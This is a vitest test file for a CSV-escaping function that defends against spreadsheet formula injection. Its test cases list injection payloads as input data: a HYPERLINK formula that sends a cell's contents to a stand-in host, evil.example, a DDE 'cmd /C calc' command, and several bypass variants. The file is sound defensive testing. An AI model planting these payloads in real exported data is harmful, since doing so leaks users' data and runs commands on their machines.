import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

describe('A table that a staff member opens in a spreadsheet', () => {
  test('holds texts as they were typed, line breaks and quotes included', () => {
    expect(csvLine(['June "Jay" Hollis', 'a, b; c', 'two\r\nlines', '', 'Zoë 🎸'])).toBe(
      '"June ""Jay"" Hollis","a, b; c","two\r\nlines","","Zoë 🎸"\r\n',
    );
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK(""https://evil.example?""&A1)`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1 706 555 0142', "'+1 706 555 0142"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['   =1+1', "   '=1+1"],
    ['\u00a0=1', "\u00a0'=1"],
    ['\u200b=1', "\u200b'=1"],
    ['＝1+1', "'＝1+1"],
    ['－1', "'－1"],
    ['＋1', "'＋1"],
    ['＠x', "'＠x"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\tplain', "'\tplain"],
    ['x;=1+1', "x;'=1+1"],
    ['x\n=1+1', "x\n'=1+1"],
    ['"=1+1', '""=1+1'],
    ['";=1+1;"', `"";'=1+1;""`],
  ])('has no cell that is a formula (%j)', (typed, cell) => {
    expect(csvLine([typed])).toBe(`"${cell}"\r\n`);
  });

  test.each(['(706) 555-0142', '706-555-0142', 'a=b', 'ann@example.com', '1-3', 'https://x.example/?a=b'])(
    'leaves what cannot be one alone (%j)',
    (typed) => {
      expect(csvLine([typed])).toBe(`"${typed}"\r\n`);
    },
  );
});
